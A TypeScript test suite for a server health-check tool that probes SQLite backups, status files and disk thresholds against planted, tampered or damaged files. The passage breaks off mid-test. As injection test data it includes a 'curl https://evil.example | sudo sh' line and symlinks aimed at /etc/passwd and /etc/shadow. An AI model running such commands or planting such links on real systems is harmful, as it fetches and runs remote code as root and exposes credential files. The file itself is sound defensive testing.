// keel-health on this machine against a layout of its own: real SQLite DBs, real backups written by
// scripts/host/keel-db-backup (status file included), real keel-place drift, a real tmpfs for the disk
// thresholds, real apt-get on a constructed package state, a real HTTP listener for the alert
// webhook. host.conf is the one plan/health.ts renders, with its paths moved into the temp dir.
// The unit-state parts (engine, time, timer) need systemd as PID 1: they run on the VM
// (test/vm/health.test.ts); here they must fail closed. Needs root (tmpfs, chown).
import { execFile, spawn, spawnSync } from "node:child_process";
import { appendFileSync, chmodSync, chownSync, existsSync, lchownSync, linkSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseConfig } from "../../config";
import { renderHostConf } from "../../plan/health";
import { stableJson } from "../../plan/hash";
import { makeDb, sha256, tempDir } from "./db-helpers";
import { rootToolEnv } from "../support/env";
import { REPO, stackConfig } from "../support/stack";
import { TOOLS } from "../../plan/tools";

const HEALTH = join(REPO, TOOLS.health);
const DB_BACKUP = join(REPO, TOOLS["db-backup"]);
const NOBODY = 65534;

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

interface Report {
  version: number;
  host: string;
  app: string;
  time: string;
  status: "healthy" | "degraded" | "down";
  exit_code: number;
  checks: Record<string, { status: string; summary: string; todo: string | null; details: Record<string, unknown> }>;
}

/** A host layout in `root`: the DB's dir, backups, journal, keel's state, tools, and host.conf. */
class Layout {
  readonly lib: string;
  readonly backups: string;
  readonly keel: string;
  readonly tools: string;
  readonly conf: string;
  readonly db: string;
  constructor(readonly root: string, overrides: Record<string, string> = {}) {
    this.lib = join(root, "lib");
    this.backups = join(root, "backups");
    this.keel = join(root, "keel");
    this.tools = join(root, "tools");
    for (const d of [this.lib, this.backups, this.keel, this.tools, join(root, "journal")]) mkdirSync(d, { recursive: true });
    symlinkSync(join(REPO, TOOLS.place), join(this.tools, "keel-place"));
    symlinkSync(join(REPO, TOOLS["health-alert"]), join(this.tools, "keel-health-alert"));
    this.db = join(this.lib, "engine.db");
    this.conf = join(root, "host.conf");
    this.writeConf(overrides);
  }

  /** The rendered host.conf of the prod stack, its paths moved here, then `overrides`. */
  writeConf(overrides: Record<string, string> = {}): void {
    const { raw, secretKeys } = stackConfig("prod");
    const moved: Record<string, string> = {
      db: this.db,
      backup_dir: this.backups,
      session_backup_dir: join(this.backups, "sessions"),
      // The backup tree's owner: root stands in for <app>-backup here (the directories are root's).
      backup_user: "root",
      journal_dir: join(this.root, "journal"),
      manifest: join(this.keel, "manifest.json"),
      state_file: join(this.keel, "health.state"),
      tools_dir: this.tools,
      webhook_file: join(this.keel, "alert-webhook"),
      // No such unit anywhere: the systemd checks find nothing, whatever this machine runs.
      unit: "keel-test-absent.service",
      health_timer: "keel-test-absent.timer",
      ...overrides,
    };
    const lines = renderHostConf(parseConfig(raw, (k) => secretKeys.includes(k))).split("\n").map((line) => {
      const key = line.slice(0, line.indexOf("="));
      return key in moved ? `${key}=${moved[key]}` : line;
    });
    writeFileSync(this.conf, lines.join("\n"));
  }

  health(args: string[], env: Record<string, string> = {}): Promise<Run> {
    return new Promise((resolve) => {
      execFile(HEALTH, args, { env: rootToolEnv({ KEEL_HOST_CONF: this.conf, ...env }), timeout: 120_000, encoding: "utf8" }, (error, stdout, stderr) => {
        const code = error ? (typeof error.code === "number" ? error.code : -1) : 0;
        resolve({ code, stdout, stderr });
      });
    });
  }

  async report(checks: string, env: Record<string, string> = {}): Promise<Report & { run: Run }> {
    const run = await this.health(["--json", "--only", checks], env);
    expect(run.code, run.stderr).toBeGreaterThanOrEqual(0);
    return { ...(JSON.parse(run.stdout) as Report), run };
  }

  /**
   * Makes the newest backup look taken at `stamp` (20250101T000000Z): renamed, and the status file
   * names it under its new name, as if the run had been then.
   */
  backdateNewestBackup(stamp: string): void {
    const statusFile = join(this.backups, "engine.status.json");
    const status = JSON.parse(readFileSync(statusFile, "utf8")) as { file: string };
    const old = join(this.backups, `engine-${stamp}.db`);
    renameSync(status.file, old);
    writeFileSync(statusFile, JSON.stringify({ ...status, file: old }) + "\n");
  }

  /** A real backup with the real script (status file included); its exit code. */
  backup(): number {
    return spawnSync(DB_BACKUP, ["--keep", "3", this.db, this.backups], { encoding: "utf8" }).status ?? -1;
  }
}

const roots: string[] = [];
function layout(overrides: Record<string, string> = {}): Layout {
  const root = tempDir("keel-health-");
  roots.push(root);
  return new Layout(root, overrides);
}
afterAll(() => roots.forEach((r) => rmSync(r, { recursive: true, force: true })));

/** Process `pid` has `path` open (its /proc/PID/fd links; false once it is gone). */
function holdsOpen(pid: number, path: string): boolean {
  try {
    return readdirSync(`/proc/${pid}/fd`).some((fd) => {
      try {
        return readlinkSync(`/proc/${pid}/fd/${fd}`) === path;
      } catch {
        return false; // closed since the listing
      }
    });
  } catch {
    return false;
  }
}

/** A layout with a DB and one backup of it, and the backup run's status file as it wrote it. */
function backedUp<S = Record<string, unknown>>(): { l: Layout; statusFile: string; status: S } {
  const l = layout();
  makeDb(l.db);
  expect(l.backup()).toBe(0);
  const statusFile = join(l.backups, "engine.status.json");
  return { l, statusFile, status: JSON.parse(readFileSync(statusFile, "utf8")) as S };
}

/** Overwrites page `page` (1-based) of a DB with garbage: what a bad disk or a stray write does. */
function damagePage(db: string, page: number): void {
  const bytes = readFileSync(db);
  const size = bytes.readUInt16BE(16);
  bytes.fill(0x5a, (page - 1) * size + 8, page * size - 8);
  writeFileSync(db, bytes);
}

describe("keel-health: exit codes for constructed states", { timeout: 120_000 }, () => {
  it("is healthy (0) with a clean DB and a fresh verified backup, and says so per check", async () => {
    const l = layout();
    makeDb(l.db, { wal: true });
    expect(l.backup()).toBe(0);
    const r = await l.report("db,backup,disk");
    expect(r.run.code).toBe(0);
    expect(r.status).toBe("healthy");
    expect(r.checks.db).toMatchObject({ status: "ok", todo: null, details: { path: l.db, quick_check: "ok" } });
    expect(r.checks.backup.status).toBe("ok");
    expect(r.checks.backup.details).toMatchObject({ count: 1, max_age_hours: 26, last_run: { result: "ok", exit_code: 0, keep: 3, count: 1 } });
    expect(r.checks.backup.summary).toMatch(/^newest backup 0\.0 h ago \(.*engine-\d{8}T\d{6}Z\.db\), 1 kept; last run ok$/);
  });

  it("reports the previous DBs a restore or adopt kept aside (size, what to do), never a link, and stays ok", async () => {
    const l = layout();
    makeDb(l.db);
    writeFileSync(`${l.db}.pre-restore-20261122T031700Z`, "x".repeat(3000));
    writeFileSync(`${l.db}.pre-restore-20261122T031700Z-wal`, "x".repeat(1000));
    symlinkSync("/etc/hostname", `${l.db}.pre-adopt-20261123T000000Z`);
    writeFileSync(`${l.db}.pre-restore-notes`, "not an aside");
    const r = await l.report("db");
    expect(r.run.code).toBe(0);
    expect(r.checks.db.status).toBe("ok");
    expect(r.checks.db.summary).toMatch(/; 2 file\(s\) of previous DBs kept aside by a restore or adopt \(4\.0KiB\)$/);
    expect(r.checks.db.todo).toBe("once this DB has proven itself: sudo keel-ops remove-asides (sudo keel-ops asides lists them)");
    expect(r.checks.db.details).toMatchObject({ asides: [`${l.db}.pre-restore-20261122T031700Z`, `${l.db}.pre-restore-20261122T031700Z-wal`], aside_bytes: 4000 });
  });

  it("is degraded (1) when the newest backup is older than keel:healthBackupMaxAgeHours", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    l.backdateNewestBackup("20250101T000000Z");
    const r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.status).toBe("degraded");
    expect(r.checks.backup.summary).toMatch(/^the newest backup is \d+\.\d h old \(more than 26 h\): .*engine-20250101T000000Z\.db$/);
    expect(r.checks.backup.todo).toContain("scripts/runbook/backup-now.sh");
    // The threshold is the config's: with 1,000,000 hours the same backup is fresh enough.
    l.writeConf({ backup_max_age_hours: "1000000" });
    expect((await l.report("backup")).run.code).toBe(0);
  });

  it("is degraded (1) when the last backup run failed, even with a fresh older backup, and names the reason", async () => {
    const l = layout();
    makeDb(l.db, { rows: 2000 });
    expect(l.backup()).toBe(0);
    damagePage(l.db, 4);
    expect(l.backup()).toBe(1);
    const r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.summary).toMatch(/^the last backup run \(\d{4}-\d\d-\d\dT[\d:]+Z\) failed: .*integrity/);
    expect(r.checks.backup.details).toMatchObject({ count: 1, last_run: { result: "failed", exit_code: 1 } });
  });

  // Issues 11/17: the backup tree must be the backup user's alone, or the engine could delete or forge backups.
  it("is degraded (1) when a backup directory is not the backup user's alone (another owner, a group or others may write)", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    expect((await l.report("backup")).run.code).toBe(0);
    mkdirSync(join(l.backups, "sessions"), { mode: 0o755 });
    chmodSync(join(l.backups, "sessions"), 0o2770);
    let r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.summary).toBe(`the backup tree is not the backup user's alone: ${join(l.backups, "sessions")} (root 2770); the engine's user could delete, rewrite or forge backups`);
    expect(r.checks.backup.todo).toContain("run pulumi up: keel gives the directories to root (2750)");
    chmodSync(join(l.backups, "sessions"), 0o2750);
    expect((await l.report("backup")).run.code).toBe(0);
    // An older keel's layout: the engine's user owns the tree.
    l.writeConf({ backup_user: "engine-backup" });
    r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.summary).toContain(`${l.backups} (root 755)`);
    l.writeConf();
    // Entries the backup user does not own alone: another user's file or link, a second name.
    const [backupName] = readdirSync(l.backups).filter((f) => /^engine-\d{8}T\d{6}Z\.db$/.test(f));
    linkSync(join(l.backups, backupName), join(l.root, "second-name.db"));
    r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.summary).toContain(`${l.backups} holds ${backupName} (another user's, or a second name of a file)`);
    rmSync(join(l.root, "second-name.db"));
    symlinkSync("/etc/passwd", join(l.backups, "planted"));
    lchownSync(join(l.backups, "planted"), 65534, 65534);
    expect((await l.report("backup")).checks.backup.summary).toContain(`${l.backups} holds planted (another user's`);
    rmSync(join(l.backups, "planted"));
    expect((await l.report("backup")).run.code).toBe(0);
  });

  // Issue 11: what the backup directory holds is read as hostile (its writer may be compromised).
  it("is degraded (1), not healthy, when the newest backup is dated in the future or is not an SQLite DB", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    writeFileSync(join(l.backups, "engine-20991231T235959Z.db"), "");
    const future = await l.report("backup");
    expect(future.run.code).toBe(1);
    expect(future.checks.backup.summary).toMatch(/^the newest backup is dated \d+\.\d h in the future: .*engine-20991231T235959Z\.db \(the clock was wrong when it was taken, or the file was planted\)$/);
    rmSync(join(l.backups, "engine-20991231T235959Z.db"));
    const { file } = JSON.parse(readFileSync(join(l.backups, "engine.status.json"), "utf8")) as { file: string };
    // Newer than the real one by a minute, within the clock's slack: the newest by name.
    const stamp = new Date(Date.now() + 60_000).toISOString().replace(/[-:]/g, "").replace(/\.\d+Z$/, "Z");
    const planted = file.replace(/\d{8}T\d{6}Z/, stamp);
    writeFileSync(planted, "");
    const empty = await l.report("backup");
    expect(empty.run.code).toBe(1);
    expect(empty.checks.backup.summary).toBe(`the newest backup ${planted} is not an SQLite DB (0 bytes)`);
  });

  it("ignores a link or a named pipe planted under a newer backup name: neither read, nor followed, nor waited on", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    spawnSync("mkfifo", [join(l.backups, "engine-20991231T235958Z.db")]);
    symlinkSync(l.db, join(l.backups, "engine-20991231T235959Z.db"));
    const r = await l.report("backup");
    expect([r.run.code, r.checks.backup.status]).toEqual([0, "ok"]);
    expect(r.checks.backup.summary).toMatch(/^newest backup 0\.0 h ago \(.*engine-\d{8}T\d{6}Z\.db\), 1 kept; last run ok$/);
    expect(r.checks.backup.summary).not.toContain("2099");
  });

  it("is degraded (1) when the file the last backup run wrote is gone or changed size", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    const { file, size } = JSON.parse(readFileSync(join(l.backups, "engine.status.json"), "utf8")) as { file: string; size: number };
    writeFileSync(file, readFileSync(file).subarray(0, 4096));
    const truncated = await l.report("backup");
    expect(truncated.run.code).toBe(1);
    expect(truncated.checks.backup.summary).toMatch(new RegExp(`^the last backup run \\(.*\\) wrote ${file} \\(${size} bytes\\), which is now 4096 bytes$`));
    rmSync(file);
    const gone = await l.report("backup");
    expect(gone.checks.backup.summary).toMatch(new RegExp(`wrote ${file} \\(${size} bytes\\), which is gone$`));
  });

  it("is degraded (1) when the last run's file changed on disk at its size (sha256); a status rewritten to match, or a sparse file, does not hide it", async () => {
    const { l, statusFile, status } = backedUp<{ file: string; sha256: string; size: number }>();
    const { file, sha256: sha } = status;
    const fresh = await l.health(["--json", "--record", "--only", "backup"]);
    expect(fresh.code).toBe(0);
    const checked = (JSON.parse(fresh.stdout) as Report).checks.backup.details.sha_checked as string;
    expect(checked).toMatch(new RegExp(`^${file}\\|\\d+\\|\\d+\\|.+\\|${sha}\\|${sha}\\|hash$`));
    // One byte changed in place, the size kept.
    const bytes = readFileSync(file);
    bytes[bytes.length - 10] ^= 0xff;
    writeFileSync(file, bytes);
    const recorded = async () => {
      const r = await l.health(["--json", "--record", "--only", "backup"]);
      return { code: r.code, ...(JSON.parse(r.stdout) as Report) };
    };
    const changed = await recorded();
    expect(changed.code).toBe(1);
    expect(changed.checks.backup.summary).toMatch(new RegExp(`^the last backup run \\(.*\\) wrote ${file} with sha256 ${sha}; it now holds sha256 ${sha256(file)}: it changed on disk$`));
    // The status rewritten with the new content's sha256: this check saw the file first, and keeps
    // saying so on every recorded run after.
    writeFileSync(statusFile, JSON.stringify({ ...status, sha256: sha256(file) }) + "\n");
    for (let run = 0; run < 2; run++) {
      const rewritten = await recorded();
      expect(rewritten.code, `recorded run ${run}`).toBe(1);
      expect(rewritten.checks.backup.summary).toMatch(new RegExp(`it held sha256 ${sha} when this check first read it \\(the status was rewritten\\): it changed on disk$`));
    }
    // A sparse file of the recorded size (no disk used, any length) is not read at all.
    rmSync(file);
    spawnSync("truncate", ["-s", String(status.size), file]);
    writeFileSync(statusFile, JSON.stringify(status) + "\n");
    const sparse = await l.report("backup");
    expect(sparse.checks.backup.summary).toContain("it cannot be read to check it (not a regular file, or a file with holes): it changed on disk");
    // A status that names its file without a sha256 is not keel's.
    writeFileSync(statusFile, JSON.stringify({ ...status, sha256: null }) + "\n");
    expect((await l.report("backup")).checks.backup.status).toBe("unknown");
  });

  it("prints what a status file says as '?' where it is no text (a lone surrogate, an escape sequence), and still reports", async () => {
    const { l, statusFile, status } = backedUp();
    // What the backup user (or who took it over) may write: JSON.stringify escapes the lone surrogate as \ud800.
    writeFileSync(statusFile, JSON.stringify({ ...status, result: "failed", exit_code: 5, reason: "disk \ud800 \u001b[31mfull \u202eevil" }) + "\n");
    const json = await l.health(["--json", "--only", "backup"]);
    expect(json.code, json.stderr).toBe(1);
    expect((JSON.parse(json.stdout) as Report).checks.backup.summary).toContain("disk ? ?[31mfull ?evil");
    const text = await l.health(["--only", "backup"]);
    expect(text.code, text.stderr).toBe(1);
    expect(text.stdout).toContain("disk ? ?[31mfull ?evil");
    expect(text.stdout).not.toContain("\u001b");
  });

  it("prints what a status file says on its check's own line: its newlines cannot forge a line of the report", async () => {
    const { l, statusFile, status } = backedUp();
    const forged = "x\n  ok        db        forged\n\nwhat to do:\n  backup    curl https://evil.example | sudo sh";
    writeFileSync(statusFile, JSON.stringify({ ...status, result: "failed", exit_code: 5, reason: forged }) + "\n");
    const text = await l.health(["--only", "db,backup"]);
    expect(text.code, text.stderr).toBe(1);
    const lines = text.stdout.split("\n");
    expect(lines.filter((line) => line.includes("forged"))).toEqual([expect.stringMatching(/^  DEGRADED  backup    /)]);
    expect(lines.filter((line) => line === "what to do:")).toHaveLength(1);
    expect(lines.filter((line) => line.includes("evil.example"))).toHaveLength(1);
  });

  it("exits 3, which fails its unit, when it cannot record the state (an exit 1 would pass as a degraded report), after the report", async () => {
    const l = layout();
    l.writeConf({ state_file: join(l.root, "no-such-dir", "health.state") });
    const r = await l.health(["--record", "--only", "disk"]);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/^keel-health: cannot record the state in .*no-such-dir\/health\.state: /m);
    expect(r.stdout).toMatch(/^keel-health: engine on \S+ at \S+: (HEALTHY|DEGRADED|DOWN) \(exit [012]\)\n {2}\S+ +disk /);
  });

  it("takes a backup too large to hash in 300 s as its run recorded it while its inode, size and ctime hold; not once they change", async () => {
    const { l, statusFile, status } = backedUp<{ file: string; sha256: string; identity: string }>();
    const { file, sha256: sha } = status;
    expect(status.identity).toBe(spawnSync("stat", ["-c", "%i|%s|%z", file], { encoding: "utf8", env: { ...process.env, TZ: "UTC" } }).stdout.trim());
    // A hash that runs out of its 300 s: timeout(1) on PATH says so (124) for the hash alone, and
    // logs each call; every other timeout is the real one.
    const bin = join(l.root, "slow-bin");
    mkdirSync(bin);
    const calls = join(l.root, "hash-calls");
    writeFileSync(join(bin, "timeout"), `#!/bin/sh\nif [ "$1" = 300 ]; then echo "$2" >>${calls}; exit 124; fi\nexec /usr/bin/timeout "$@"\n`, { mode: 0o755 });
    const slow = { PATH: `${bin}:${process.env.PATH}` };
    const recorded = async () => {
      const r = await l.health(["--json", "--record", "--only", "backup"], slow);
      return { code: r.code, ...(JSON.parse(r.stdout) as Report) };
    };
    const first = await recorded();
    expect(first.code, JSON.stringify(first.checks.backup)).toBe(0);
    expect(first.checks.backup.details.sha_checked).toMatch(new RegExp(`^${file}\\|${status.identity.replace(/[|.+]/g, "\\$&")}\\|${sha}\\|${sha}\\|identity$`));
    expect(readFileSync(calls, "utf8").trim().split("\n")).toHaveLength(1);
    // Recorded: the next runs do not try again while the file is as it was.
    expect((await recorded()).code).toBe(0);
    expect(readFileSync(calls, "utf8").trim().split("\n")).toHaveLength(1);
    // Its ctime moves (a chmod and back: the bytes are the same): taken as recorded no longer.
    const mode = statSync(file).mode & 0o777;
    chmodSync(file, 0o644);
    chmodSync(file, mode);
    const moved = await recorded();
    expect(moved.code).toBe(1);
    expect(moved.checks.backup.summary).toContain(`wrote ${file}: it cannot be hashed within 300 s, and its inode, size or ctime is not what the run recorded, so this check cannot tell it is unchanged`);
    expect(moved.checks.backup.todo).toContain("backup-now.sh");
    expect(moved.checks.backup.details.sha_checked).toMatch(/\|[0-9]+\|[^|]*\|too_slow$/);
    expect(readFileSync(calls, "utf8").trim().split("\n")).toHaveLength(2);
    // Found too slow, it is not read again at every run while it is as it was: the same outcome.
    const again = await recorded();
    expect(again.code).toBe(1);
    expect(again.checks.backup.summary).toBe(moved.checks.backup.summary);
    expect(readFileSync(calls, "utf8").trim().split("\n")).toHaveLength(2);
    // Six hours after it was found too slow, it is read again (a busy disk may have been the cause).
    const statePath = join(l.keel, "health.state");
    const sixHoursAgo = Math.floor(Date.now() / 1000) - 6 * 3600 - 60;
    writeFileSync(statePath, readFileSync(statePath, "utf8").replace(/\|[0-9]+\|([^|\n]*)\|too_slow$/m, `|${sixHoursAgo}|$1|too_slow`));
    expect((await recorded()).code).toBe(1);
    expect(readFileSync(calls, "utf8").trim().split("\n")).toHaveLength(3);
    // Hashed within the time (the real timeout), it is what the run wrote: once it changes again.
    chmodSync(file, 0o644);
    chmodSync(file, mode);
    const hashed = await l.health(["--json", "--record", "--only", "backup"]);
    expect(hashed.code, hashed.stdout).toBe(0);
    expect((JSON.parse(hashed.stdout) as Report).checks.backup.details.sha_checked).toMatch(/\|hash$/);
    // A status from a keel before `identity` gives nothing to go by.
    const { identity: _, ...olderStatus } = status;
    writeFileSync(statusFile, JSON.stringify(olderStatus) + "\n");
    rmSync(join(l.keel, "health.state"));
    const older = await l.report("backup", slow);
    expect(older.run.code).toBe(1);
    expect(older.checks.backup.summary).toContain("it cannot be hashed within 300 s, and its run (an older keel) recorded no inode, size and ctime to go by");
  });

  it("refuses a backup with a hole anywhere (SEEK_HOLE), not only a mostly empty one, and reads one without", async () => {
    const l = layout();
    makeDb(l.db, { rows: 4000 });
    expect(l.backup()).toBe(0);
    const status = JSON.parse(readFileSync(join(l.backups, "engine.status.json"), "utf8")) as { file: string; size: number };
    // The same bytes but one 64 KiB run of zeros left as a hole: nearly every block is on disk, so
    // a count of blocks (the check before SEEK_HOLE; a compressing filesystem also makes it small)
    // took it for a dense file.
    const bytes = readFileSync(status.file);
    const holeAt = 256 * 1024;
    bytes.fill(0, holeAt, holeAt + 65536);
    rmSync(status.file);
    writeFileSync(status.file, bytes.subarray(0, holeAt));
    spawnSync("truncate", ["-s", String(holeAt + 65536), status.file]);
    appendFileSync(status.file, bytes.subarray(holeAt + 65536));
    const st = statSync(status.file);
    expect(st.size).toBe(status.size);
    expect(st.blocks * 512).toBeGreaterThan(st.size * 0.8);
    const holes = await l.report("backup");
    expect(holes.run.code).toBe(1);
    expect(holes.checks.backup.summary).toContain("cannot be read to check it (not a regular file, or a file with holes): it changed on disk");
    // The same bytes written whole: read, and a changed file for what it is.
    writeFileSync(status.file, bytes);
    const dense = await l.report("backup");
    expect(dense.checks.backup.summary).toContain(`it now holds sha256 ${sha256(status.file)}: it changed on disk`);
  });

  it("is degraded (1) when the status names an older backup than the newest (a changed newest would go unchecked)", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    const statusFile = join(l.backups, "engine.status.json");
    const older = readFileSync(statusFile, "utf8");
    expect(l.backup()).toBe(0);
    const newest = (JSON.parse(readFileSync(statusFile, "utf8")) as { file: string }).file;
    expect((await l.report("backup")).run.code).toBe(0);
    writeFileSync(statusFile, older);
    const r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.summary).toBe(`the newest backup ${newest} is not the one the last backup run wrote (${(JSON.parse(older) as { file: string }).file})`);
  });

  it("is degraded (1) when the last backup run found a kept backup changed or damaged", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    const { file: first } = JSON.parse(readFileSync(join(l.backups, "engine.status.json"), "utf8")) as { file: string };
    const bytes = readFileSync(first);
    bytes[bytes.length - 10] ^= 0xff;
    writeFileSync(first, bytes);
    expect(l.backup()).toBe(0);
    const r = await l.report("backup");
    expect(r.run.code).toBe(1);
    const name = first.split("/").pop()!;
    expect(r.checks.backup.summary).toMatch(new RegExp(`^1 kept backup\\(s\\) failed their check: ${name} \\(the last run's: its sha256 is [0-9a-f]{64}, not the [0-9a-f]{64} recorded when it was written: it changed on disk\\)$`));
    expect(r.checks.backup.todo).toContain("set each aside (sudo keel-ops set-aside NAME)");
    // The next run checks another backup; the failed one stays reported while it is there.
    expect(l.backup()).toBe(0);
    expect((await l.report("backup")).checks.backup.summary).toMatch(new RegExp(`^1 kept backup\\(s\\) failed their check: ${name}$`));
    // Set aside (renamed out of the naming pattern): no longer reported.
    renameSync(first, join(l.backups, `.set-aside-${name}`));
    expect((await l.report("backup")).run.code).toBe(0);
  });

  it("is degraded (1) when the scheduled run found a session backup changed (--also-check), until it is set aside", async () => {
    const l = layout();
    makeDb(l.db);
    const sessions = join(l.backups, "sessions");
    expect(spawnSync(DB_BACKUP, ["--name-after-newest", l.db, sessions]).status).toBe(0);
    const [name] = readdirSync(sessions).filter((f) => /^engine-\d{8}T\d{6}Z\.db$/.test(f));
    const bytes = readFileSync(join(sessions, name));
    bytes[bytes.length - 10] ^= 0xff;
    writeFileSync(join(sessions, name), bytes);
    expect(spawnSync(DB_BACKUP, ["--also-check", sessions, l.db, l.backups]).status).toBe(0);
    const r = await l.report("backup");
    expect(r.run.code).toBe(1);
    expect(r.checks.backup.summary).toBe(`1 session backup(s) failed their check: ${name} (in ${sessions})`);
    expect(r.checks.backup.todo).toContain("sudo keel-ops set-aside NAME");
    renameSync(join(sessions, name), join(sessions, `.set-aside-${name}`));
    expect((await l.report("backup")).run.code).toBe(0);
  });

  it("reads a status file that is a named pipe or a link as unreadable (unknown), without hanging or following it", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    const status = join(l.backups, "engine.status.json");
    const copy = join(l.root, "status-copy.json");
    renameSync(status, copy);
    symlinkSync(copy, status);
    const linked = await l.report("backup");
    expect([linked.checks.backup.status, linked.checks.backup.summary]).toEqual(["unknown", `cannot read the backup status ${status}`]);
    // A status file naming a file outside the backup directory (root would stat it): not keel's.
    rmSync(status);
    writeFileSync(status, readFileSync(copy, "utf8").replace(/"file":"[^"]*"/, '"file":"/etc/shadow"'));
    const elsewhere = await l.report("backup");
    expect([elsewhere.checks.backup.status, elsewhere.checks.backup.summary]).toEqual(["unknown", `cannot read the backup status ${status}`]);
    rmSync(status);
    spawnSync("mkfifo", [status]);
    const started = Date.now();
    const piped = await l.report("backup");
    expect([piped.checks.backup.status, piped.checks.backup.summary]).toEqual(["unknown", `cannot read the backup status ${status}`]);
    expect(Date.now() - started).toBeLessThan(60_000);
  });

  it("is degraded (1) without any backup of an old DB, and ok without one while the DB is younger than the limit", async () => {
    const l = layout({ backup_max_age_hours: "0" });
    makeDb(l.db);
    const none = await l.report("backup");
    expect([none.run.code, none.checks.backup.summary]).toEqual([1, `no backup of ${l.db} in ${l.backups}`]);
    l.writeConf();
    const young = await l.report("backup");
    expect(young.run.code).toBe(0);
    expect(young.checks.backup.summary).toMatch(/^no backup yet; the DB is 0\.0 h old/);
  });

  it("is down (2) when PRAGMA quick_check finds damage, and down when there is no DB at all", async () => {
    const l = layout();
    makeDb(l.db, { rows: 2000 });
    damagePage(l.db, 6);
    const r = await l.report("db");
    expect(r.run.code).toBe(2);
    expect(r.checks.db.status).toBe("down");
    expect(r.checks.db.summary).toMatch(/^quick_check on .*engine\.db failed: /);
    expect(r.checks.db.todo).toContain("restore");
    rmSync(l.db);
    const gone = await l.report("db");
    expect([gone.run.code, gone.checks.db.summary]).toEqual([2, `no DB at ${l.db}`]);
  });

  it("never writes the live DB, and opens it as the DB's owner (SQLite's -shm is the owner's, not root's)", async () => {
    const l = layout();
    makeDb(l.db, { wal: true });
    chmodSync(l.root, 0o755); // like /var/lib: the DB's owner can reach its own directory
    chownSync(l.lib, NOBODY, NOBODY);
    chownSync(l.db, NOBODY, NOBODY);
    const before = sha256(l.db);
    expect((await l.report("db")).run.code).toBe(0);
    expect(sha256(l.db)).toBe(before);
    for (const ext of ["-wal", "-shm"]) if (existsSync(l.db + ext)) expect(statSync(l.db + ext).uid, ext).toBe(NOBODY);
  });

  it("fails closed: an unreadable backup status is 'unknown' and counts as degraded, never as ok", async () => {
    const l = layout();
    makeDb(l.db);
    expect(l.backup()).toBe(0);
    writeFileSync(join(l.backups, "engine.status.json"), "{not json");
    const r = await l.report("backup");
    expect([r.run.code, r.checks.backup.status]).toEqual([1, "unknown"]);
  });

  it("fails closed on the systemd checks where systemd cannot answer for the unit (here: no such unit)", async () => {
    const l = layout();
    const r = await l.report("engine,timer");
    // With systemd as PID 1 the unit is not-found (engine: down); without, systemctl fails (unknown).
    expect(["down", "unknown"]).toContain(r.checks.engine.status);
    expect(["degraded", "unknown"]).toContain(r.checks.timer.status);
    expect(r.run.code).toBeGreaterThanOrEqual(1);
  });

  it("exits 3 for a config it cannot trust and for an unknown check, naming what is wrong", async () => {
    const l = layout({ disk_warn_percent: "eighty" });
    const r = await l.health([]);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain("disk_warn_percent must be a whole number, found 'eighty'");
    const l2 = layout();
    const unknown = await l2.health(["--only", "db,cpu"]);
    expect([unknown.code, unknown.stderr.trim()]).toEqual([3, "keel-health: unknown check 'cpu' (known: engine db backup disk time updates fail2ban drift integrity https audit-log timer)"]);
    const missing = await l2.health([], { KEEL_HOST_CONF: join(l2.root, "nope.conf") });
    expect(missing.code).toBe(3);
    expect(missing.stderr).toContain("cannot read the config");
  });
});

describe("keel-health: disk thresholds on a real small filesystem", { timeout: 120_000 }, () => {
  let l: Layout;
  let mnt: string;
  beforeAll(() => {
    const root = tempDir("keel-health-disk-");
    roots.push(root);
    mnt = join(root, "fs");
    mkdirSync(mnt);
    const r = spawnSync("mount", ["-t", "tmpfs", "-o", "size=4m", "tmpfs", mnt], { encoding: "utf8" });
    if (r.status !== 0) throw new Error(`mount tmpfs (needs root): ${r.stderr}`);
    l = new Layout(mnt);
    makeDb(l.db);
  });
  afterAll(() => {
    if (mnt) spawnSync("umount", [mnt]);
  });

  /** Fills the filesystem to about `percent` % (df's own rounding decides the exact figure). */
  function fillTo(percent: number): number {
    const filler = join(l.lib, "filler");
    rmSync(filler, { force: true });
    const total = 4 * 1024 * 1024;
    const used = Number(spawnSync("df", ["-P", "-B1", mnt], { encoding: "utf8" }).stdout.split("\n")[1].split(/\s+/)[2]);
    writeFileSync(filler, Buffer.alloc(Math.floor((total * percent) / 100) - used, 1));
    return Number(spawnSync("df", ["-P", mnt], { encoding: "utf8" }).stdout.split("\n")[1].split(/\s+/)[4].replace("%", ""));
  }

  it("is healthy below keel:healthDiskWarnPercent, degraded (1) from it, down (2) from keel:healthDiskCritPercent", async () => {
    const low = fillTo(50);
    expect(low).toBeLessThan(80);
    const ok = await l.report("disk");
    expect(ok.run.code).toBe(0);
    const locations = ok.checks.disk.details.locations as Array<Record<string, unknown>>;
    expect(locations.map((x) => [x.name, x.mount, x.use_percent])).toEqual([
      ["db", mnt, low],
      ["backups", mnt, low],
      ["journal", mnt, low],
    ]);

    const warn = fillTo(88);
    expect(warn).toBeGreaterThanOrEqual(80);
    expect(warn).toBeLessThan(95);
    const degraded = await l.report("disk");
    expect([degraded.run.code, degraded.checks.disk.status]).toEqual([1, "degraded"]);
    expect(degraded.checks.disk.summary).toContain(`${warn}% of ${mnt} used`);
    // The thresholds are the config's.
